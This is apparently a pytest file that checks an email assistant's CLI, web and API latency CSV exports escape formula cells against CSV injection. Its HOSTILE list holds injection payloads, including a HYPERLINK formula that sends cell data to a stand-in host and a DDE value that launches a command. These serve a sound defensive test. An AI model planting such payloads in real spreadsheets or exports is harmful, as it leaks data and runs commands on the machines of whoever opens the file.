"""CSV exports never hand a spreadsheet a formula (OWASP CSV injection).

A subject typed by anyone who mails the manager ends up in the latency export; opened in
Excel or LibreOffice, ``=HYPERLINK(...)`` or ``@SUM(...)`` would run. Both exports (the
CLI's ``--csv`` and the web/API ``latency.csv``) write such cells with a leading ``'``.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from email.message import EmailMessage
from email.utils import format_datetime
from mailbox import Maildir
from pathlib import Path

import pytest

from assistant.domain.csvsafe import cell
from assistant.store.tables import Message
from tests.e2e.test_cli import Cli
from tests.support.web import NOW, World, login, world_fixture  # noqa: F401

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_cell_is_written_as_text(text: str) -> None:
    assert cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Budget = 5", "Re: plan", "", "'quoted", 12, -3.5, None])
def test_other_cells_are_kept(value: object) -> None:
    assert cell(value) == value


def _cells(text: str) -> set[str]:
    return {c for r in csv.reader(io.StringIO(text)) for c in r}


def test_the_cli_latency_export_neutralises_formulas(tmp_path: Path) -> None:
    cli = Cli(tmp_path)
    cli("init", str(tmp_path))
    box = Maildir(str(tmp_path / "mail"), create=True)
    at = datetime(2026, 11, 9, 9, 0, tzinfo=UTC)
    subjects = [s for s in HOSTILE if not s[0].isspace()]  # a header cannot start with them
    for i, subject in enumerate(subjects):
        msg = EmailMessage()
        msg["From"], msg["To"] = "sam@example.com", "alex@example.com"
        msg["Subject"], msg["Date"] = subject, format_datetime(at + timedelta(hours=i))
        msg["Message-ID"] = f"<m{i}@x>"
        msg.set_content("text")
        box.add(msg)
    out = tmp_path / "records.csv"
    cli("latency", "--maildir", str(tmp_path / "mail"), "--manager", "alex@example.com",
        "--assistant", "sam@example.com", "--csv", str(out))  # fmt: skip
    cells = _cells(out.read_text())
    for subject in subjects:
        assert "'" + subject in cells
        assert subject not in cells


def test_the_web_and_api_latency_exports_neutralise_formulas(world: World) -> None:
    a = world.alpha
    with world.svc.uow.begin() as s:
        for i, subject in enumerate(HOSTILE):
            s.add(Message(pair_id=a.id, message_id=f"<hostile-{i}@x>", subject=subject,
                          from_addr="sam@alpha.example", to_addrs=["alex@alpha.example"],
                          sent_at=NOW - timedelta(days=2, minutes=i),
                          direction="assistant_to_manager"))  # fmt: skip
    client = world.client()
    login(client, "sam@alpha.example")
    for url in (f"/pairs/{a.id}/latency.csv", f"/api/pairs/{a.id}/latency.csv"):
        export = client.get(url)
        assert export.status_code == 200, url
        cells = _cells(export.text)
        for subject in HOSTILE:
            assert "'" + subject in cells, (url, subject)
            assert subject not in cells, (url, subject)
